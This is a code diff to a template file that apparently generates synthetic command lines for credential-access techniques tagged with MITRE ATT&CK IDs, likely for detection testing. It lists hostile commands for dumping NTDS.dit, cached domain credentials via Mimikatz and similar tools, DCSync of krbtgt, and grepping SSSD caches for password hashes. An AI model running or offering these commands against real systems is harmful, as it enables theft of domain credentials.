@@ -8,7 +8,7 @@ RARE_ACCESS_LINES = parse_templates(
     r"""
 # Credentials
 rare-ntds-parse bash +T1003.003: «gosecretsdump -ntds ‹lfile› -system ‹lfile› -out /tmp/‹name›¦python3 dshashes.py ntds.dit.export/datatable.4 ntds.dit.export/link_table.7 . --passwordhasher¦esedbexport -m tables /tmp/‹name›/ntds.dit¦ntdsxtract -d ‹lfile› -s ‹lfile›¦adXtract.sh /root/ntds.dit /root/SYSTEM ‹name›¦ntdissector -ntds ‹lfile› -system ‹lfile› -outputdir /tmp/‹name› -ts»
-rare-cached cmd +T1003.005: «cachedump.exe -v > ‹dir›\‹name›.txt¦SharpDump-Cache.exe --mscash /out:‹dir›\‹name›.txt¦powershell "Invoke-Mimikatz -Command 'lsadump::cache'"¦cmdkey.exe /list > %TEMP%\‹name›.txt»
+rare-cached cmd +T1003.005: «cachedump.exe -v > ‹dir›\‹name›.txt¦SharpDump-Cache.exe --mscash /out:‹dir›\‹name›.txt¦powershell "Invoke-Mimikatz -Command 'lsadump::cache'"»
 rare-cached-crack bash +T1003.005: «python3 creddump7/cachedump.py ‹lfile› ‹lfile› true¦python2 cachedump.py SYSTEM SECURITY true > /tmp/‹name›¦/usr/share/creddump7/cachedump.py /tmp/system.sav /tmp/security.sav¦tdbdump /var/lib/sss/db/cache_‹fqdn›.ldb | grep cachedPassword¦strings /var/lib/sss/db/cache_‹fqdn›.ldb | grep '\$6\$'»
 near-rare-cmdkey cmd: «cmdkey /add:‹server› /user:‹domain›\‹user› /pass¦cmdkey.exe /delete:TERMSRV/‹server›¦reg query HKLM\SOFTWARE\Policies\Microsoft\Windows\System /v CachedLogonsCount»
 rare-dcsync cmd +T1003.006: «SharpKatz.exe --Command dcsync --User krbtgt --Domain ‹fqdn› --DomainController ‹server›¦BetterSafetyKatz.exe "lsadump::dcsync /user:‹domain›\administrator" "exit"¦NetSync.exe /dc:‹server› /user:‹host›$ /ntlm:‹hash›¦DSInternalsCLI.exe get-adreplaccount -all -server ‹server›»
